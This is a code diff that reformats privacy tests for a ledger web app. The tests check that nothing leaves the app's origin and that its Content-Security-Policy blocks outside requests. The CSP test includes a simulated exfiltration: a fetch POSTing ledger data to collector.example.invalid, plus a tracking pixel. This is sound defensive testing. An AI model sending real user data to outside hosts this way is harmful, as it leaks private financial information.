@@ -13,11 +13,14 @@ import { SAMPLE_FILE_LIST } from '../../src/api/sample-files';
 /** The sample's datasets, stored at first start. */
 const SAMPLES = SAMPLE_FILE_LIST.length;
 
-
 const FIXTURE = fileURLToPath(new URL('../fixtures/ledger-windows-1252.csv', import.meta.url));
 const PRINTS = fileURLToPath(new URL('../../test-results/privacy-prints/', import.meta.url));
 
-test('nothing leaves the origin while a user imports, browses and prints every page, and downloads', async ({ app, requests, baseURL }) => {
+test('nothing leaves the origin while a user imports, browses and prints every page, and downloads', async ({
+  app,
+  requests,
+  baseURL,
+}) => {
   const origin = new URL(baseURL!).origin;
   const sockets: string[] = [];
   app.on('websocket', (ws) => sockets.push(ws.url()));
@@ -26,7 +29,9 @@ test('nothing leaves the origin while a user imports, browses and prints every p
     // The policy, as a header and in the page.
     const response = await app.goto('/import');
     expect(response?.headers()['content-security-policy']).toBe(`${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`);
-    expect(await app.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CONTENT_SECURITY_POLICY);
+    expect(await app.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(
+      CONTENT_SECURITY_POLICY,
+    );
 
     // Import a file (in the worker), and download its rejections (a blob: URL, made in the page).
     await expect(app.getByRole('table', { name: new RegExp(`^${SAMPLES} datasets, kept`) })).toBeVisible();
@@ -34,7 +39,10 @@ test('nothing leaves the origin while a user imports, browses and prints every p
     await app.getByRole('button', { name: 'Import ledger-windows-1252.csv' }).click();
     const receipt = app.getByRole('article', { name: 'Import receipt: ledger-windows-1252.csv' });
     await expect(receipt.getByRole('status')).toContainText('Every row is accounted for');
-    const [rejections] = await Promise.all([app.waitForEvent('download'), receipt.getByRole('button', { name: 'Download rejections and warnings as CSV' }).click()]);
+    const [rejections] = await Promise.all([
+      app.waitForEvent('download'),
+      receipt.getByRole('button', { name: 'Download rejections and warnings as CSV' }).click(),
+    ]);
     expect(await readFile(await rejections.path(), 'utf8')).toContain('invalid-day');
 
     // Every page, on screen and printed.
@@ -47,7 +55,10 @@ test('nothing leaves the origin while a user imports, browses and prints every p
 
     // The scenario export (another blob: download).
     await app.goto('/projections');
-    const [scenario] = await Promise.all([app.waitForEvent('download'), app.getByRole('button', { name: 'Export scenario and projection (CSV)' }).click()]);
+    const [scenario] = await Promise.all([
+      app.waitForEvent('download'),
+      app.getByRole('button', { name: 'Export scenario and projection (CSV)' }).click(),
+    ]);
     expect(await readFile(await scenario.path(), 'utf8')).toContain('Road Casualty Reserve projection');
 
     // The record: many requests, every one to the app's own origin (or data:/blob:, which never leave the browser).
@@ -56,8 +67,16 @@ test('nothing leaves the origin while a user imports, browses and prints every p
     expect(elsewhere, 'requests to another origin').toEqual([]);
     expect(sockets, 'WebSockets opened').toEqual([]);
     // And only what the app is made of: its pages, its built assets, its icon (public/), the sample files.
-    const paths = new Set(requests.filter((r) => r.url.startsWith(origin)).map((r) => new URL(r.url).pathname.replace(/^\/assets\/.*$/, '/assets/*').replace(/^\/data\/.*\.csv$/, '/data/*.csv')));
-    expect([...paths].sort()).toEqual(['/assets/*', '/data/*.csv', '/favicon.svg', ...ROUTES.map((r) => r.path)].sort());
+    const paths = new Set(
+      requests
+        .filter((r) => r.url.startsWith(origin))
+        .map((r) =>
+          new URL(r.url).pathname.replace(/^\/assets\/.*$/, '/assets/*').replace(/^\/data\/.*\.csv$/, '/data/*.csv'),
+        ),
+    );
+    expect([...paths].sort()).toEqual(
+      ['/assets/*', '/data/*.csv', '/favicon.svg', ...ROUTES.map((r) => r.path)].sort(),
+    );
   } finally {
     rmSync(PRINTS, { recursive: true, force: true });
   }
@@ -77,7 +96,9 @@ test.describe('the Content-Security-Policy', () => {
     const violations = await app.evaluate(async () => {
       const seen: string[] = [];
       document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
-      await fetch('https://collector.example.invalid/ledger', { method: 'POST', body: 'cost centre,amount' }).catch(() => undefined);
+      await fetch('https://collector.example.invalid/ledger', { method: 'POST', body: 'cost centre,amount' }).catch(
+        () => undefined,
+      );
       const image = new Image();
       image.src = 'https://tracker.example.invalid/pixel.gif';
       const script = document.createElement('script');
